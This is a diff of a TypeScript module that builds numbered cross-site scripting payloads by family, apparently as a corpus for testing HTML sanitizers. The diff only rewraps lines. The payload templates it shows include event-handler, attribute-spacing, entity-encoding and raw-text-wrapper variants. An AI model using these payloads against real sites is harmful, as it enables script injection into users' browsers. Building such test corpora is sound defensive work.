@@ -1,4 +1,7 @@
-/** What people send who want a script to run in others' browsers, by families: each tells its number to the page when it runs. */
+/**
+ * What people send who want a script to run in others' browsers, by families: each tells its number
+ * to the page when it runs.
+ */
 
 export interface Payload {
   id: number;
@@ -29,15 +32,43 @@ const handlers: Family = (run) => [
   ...['svg', 'iframe', 'style', 'body', 'frameset', 'object data=data:,', 'embed src=data:,'].map(
     (tag) => `<${tag} onload=${run}></${tag.split(' ')[0]}>`,
   ),
-  ...['input', 'select', 'textarea', 'button', 'a href=x', 'div tabindex=0', 'summary', 'p contenteditable'].map(
-    (tag) => `<${tag} autofocus onfocus=${run}>x</${tag.split(' ')[0]}>`,
-  ),
-  ...['click', 'mouseover', 'pointerenter', 'copy', 'paste', 'wheel', 'contextmenu', 'drag', 'auxclick', 'beforeinput'].map(
-    (name) => `<p on${name}=${run}>x</p>`,
-  ),
-  ...['li', 'td', 'th', 'h2', 'strong', 'em', 'ul', 'ol', 'br', 'table', 'tbody', 'thead', 'tr'].map(
-    (tag) => `<table><tr><td><${tag} onmouseover=${run}>x</${tag}></td></tr></table>`,
-  ),
+  ...[
+    'input',
+    'select',
+    'textarea',
+    'button',
+    'a href=x',
+    'div tabindex=0',
+    'summary',
+    'p contenteditable',
+  ].map((tag) => `<${tag} autofocus onfocus=${run}>x</${tag.split(' ')[0]}>`),
+  ...[
+    'click',
+    'mouseover',
+    'pointerenter',
+    'copy',
+    'paste',
+    'wheel',
+    'contextmenu',
+    'drag',
+    'auxclick',
+    'beforeinput',
+  ].map((name) => `<p on${name}=${run}>x</p>`),
+  ...[
+    'li',
+    'td',
+    'th',
+    'h2',
+    'strong',
+    'em',
+    'ul',
+    'ol',
+    'br',
+    'table',
+    'tbody',
+    'thead',
+    'tr',
+  ].map((tag) => `<table><tr><td><${tag} onmouseover=${run}>x</${tag}></td></tr></table>`),
   `<details open ontoggle=${run}>x</details>`,
   `<video><source onerror=${run}></video>`,
   `<audio><source src=x onerror=${run}></audio>`,
@@ -59,7 +90,9 @@ const handlers: Family = (run) => [
 
 /** The same attribute, written as browsers still read it. */
 const writings: Family = (run) => [
-  ...[' ', '/', '\t', '\n', '\f', '\r', '/ /', '//'].map((gap) => `<img${gap}src=x${gap}onerror=${run}>`),
+  ...[' ', '/', '\t', '\n', '\f', '\r', '/ /', '//'].map(
+    (gap) => `<img${gap}src=x${gap}onerror=${run}>`,
+  ),
   ...['"', "'", ''].map((quote) => `<img src=${quote}x${quote} onerror=${quote}${run}${quote}>`),
   ...['=', ' = ', '\n=\n', '\t=\f'].map((equals) => `<img src=x onerror${equals}${run}>`),
   `<img src=x onerror=&#${'116'};op.postMessage(${run.slice('top.postMessage('.length)}>`,
@@ -146,7 +179,8 @@ const addresses: Family = (run) => {
     (url: string) => `<embed src="${url}">`,
     (url: string) => `<img src="${url}">`,
     (url: string) => `<table background="${url}"><tr><td background="${url}">x</td></tr></table>`,
-    (url: string) => `<a href="https://contoh.id" ping="${url}" onclick="${run}" target="_self">x</a>`,
+    (url: string) =>
+      `<a href="https://contoh.id" ping="${url}" onclick="${run}" target="_self">x</a>`,
     (url: string) => `<link rel=stylesheet href="${url}">`,
   ];
   return [
@@ -164,8 +198,33 @@ const addresses: Family = (run) => {
 };
 
 const wrappers = [
-  ...['xmp', 'noscript', 'noembed', 'noframes', 'iframe', 'style', 'title', 'textarea', 'plaintext', 'template', 'script'],
-  ...['option', 'select', 'svg', 'math', 'listing', 'object', 'table', 'caption', 'colgroup', 'form', 'button', 'frameset'],
+  ...[
+    'xmp',
+    'noscript',
+    'noembed',
+    'noframes',
+    'iframe',
+    'style',
+    'title',
+    'textarea',
+    'plaintext',
+    'template',
+    'script',
+  ],
+  ...[
+    'option',
+    'select',
+    'svg',
+    'math',
+    'listing',
+    'object',
+    'table',
+    'caption',
+    'colgroup',
+    'form',
+    'button',
+    'frameset',
+  ],
 ];
 /** Elements whose content is read otherwise by one parser than by another. */
 const rawText: Family = (run) => {
@@ -262,7 +321,18 @@ const encodings: Family = (run) => {
 };
 
 const families: Family[] = [
-  ...[mixedCase, handlers, writings, scripts, addresses, rawText, mutations, comments, styles, encodings],
+  ...[
+    mixedCase,
+    handlers,
+    writings,
+    scripts,
+    addresses,
+    rawText,
+    mutations,
+    comments,
+    styles,
+    encodings,
+  ],
 ];
 
 /** All of them, numbered. */
